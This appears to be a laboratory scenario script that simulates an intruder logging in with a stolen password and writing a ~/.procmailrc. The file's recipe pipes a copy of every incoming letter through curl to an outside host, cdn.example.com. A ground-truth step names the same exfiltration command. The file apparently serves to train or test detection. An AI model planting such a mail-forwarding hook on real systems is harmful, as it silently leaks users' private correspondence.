title="A recipe in ~/.procmailrc posts a copy of each letter to a stranger's site"
what="With clerk's password somebody logs in for half a minute and writes a ~/.procmailrc whose first recipe pipes a copy of each letter into curl, which posts it to cdn.example.com. From then on it happens at delivery, with nobody logged in. Rules of the laboratory."
host=mx1.example.org user=clerk store=procmail daemons="cron sshd" syslog_format=iso
shift_plan="before:1d set:1h d1:1d d2:6h"
letters_to() { mail_in --from 'partner%n@example.net' --to clerk@example.org --subject 'Offer %n' --count "$1" --source '203.0.113.2%n' --helo 'host2%n.example.net'; }
act() {
  phase before; letters_to 3; small_talk 4
  ssh_as buyer <<'L'
mail -H
curl -sI http://files.example.net/price.html
L
  phase set
  ssh_run clerk 'id; whoami; printf ":0c\n| /usr/bin/curl -s -m 20 -o /dev/null --data-binary @- http://cdn.example.com/b/7f\n" > .procmailrc; chmod 600 .procmailrc'
  small_talk 1
  phase d1; letters_to 4; small_talk 4
  phase d2; letters_to 3; small_talk 3; sleep 3
}
truth() {
  exec_step post 'curl -s -m 20 -o /dev/null --data-binary @- http://cdn.example.com' 'a letter is posted at delivery'
}
